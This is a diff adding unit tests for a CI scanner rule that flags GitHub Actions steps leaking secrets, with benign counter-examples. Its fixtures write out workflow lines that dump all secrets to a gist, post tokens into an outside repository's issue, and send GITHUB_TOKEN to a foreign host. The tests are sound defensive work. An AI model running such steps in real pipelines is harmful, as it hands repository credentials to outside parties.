@@ -460,6 +460,52 @@ describe('gha-secrets-exfiltration', () => {
     expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
   });
 
+  it('reports secrets put into a gist, written with gh into another owner\'s repository, or the token handed to another host with gh', () => {
+    const sent = `on: push\n${job(`      - run: |
+          echo "\${{ toJSON(secrets) }}" > report.txt
+          gh gist create report.txt -d "build report"
+      - run: env | gh gist create -
+      - run: gh api repos/qqbot9/sink/issues -f title=sync -f body="\${{ secrets.NPM_TOKEN }}"
+        env:
+          GH_TOKEN: \${{ secrets.RELEASE_PAT }}
+      - run: gh issue create -R acme/infra --title rotated --body "$K"
+        env:
+          K: \${{ secrets.DEPLOY_KEY }}
+      - run: gh api /user
+        env:
+          GH_TOKEN: \${{ secrets.GITHUB_TOKEN }}
+          GH_HOST: git.mirror-sync.dev
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'critical', 7],
+      ['gha-secrets-exfiltration', 'critical', 9],
+      ['gha-secrets-exfiltration', 'high', 10],
+      ['gha-secrets-exfiltration', 'high', 13],
+      ['gha-secrets-exfiltration', 'high', 16],
+    ]);
+    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
+    expect(dropOwnHostSends(findings, 'acme', 'tint').filter((f) => f.id === 'gha-secrets-exfiltration').map((f) => f.line)).toEqual([7, 9, 10, 16]);
+  });
+
+  it('is quiet on gh writing ordinary data, with its token as credential, to this repository, a gist of build output, or an Enterprise host', () => {
+    const normal = `on: push\n${job(`      - run: gh api repos/other-org/website/dispatches -f event_type=docs -f client_payload[sha]=$GITHUB_SHA
+        env:
+          GH_TOKEN: \${{ secrets.DOCS_PAT }}
+      - run: gh issue comment "$PR" --repo "\${{ github.repository }}" --body "Deployed \${{ steps.deploy.outputs.url }}"
+      - run: |
+          npm run build > build.log
+          gh gist create build.log --desc "build log"
+          gh release upload "$TAG" dist/*.tgz
+        env:
+          GH_TOKEN: \${{ github.token }}
+      - run: gh api /repos/acme/tint/releases
+        env:
+          GH_TOKEN: \${{ secrets.GHE_TOKEN }}
+          GH_HOST: github.acme-corp.com
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('is quiet on a product-named secret sent to a host with the product in its name, one whose name is in the secret\'s, or a name whose words are a use or an abbreviation', () => {
     const normal = `on: push\n${job(`      - run: curl -s -X POST https://api.jelly-cloud.com/1.0/exec -d "token=\${{ secrets.JELLYCLOUD_TOKEN }}" -d "cmd=redeploy"
       - run: curl -s -F "file=@app.apk" -F "token=\${{ secrets.APKDROP_TOKEN }}" https://upload.apkdrop.io/
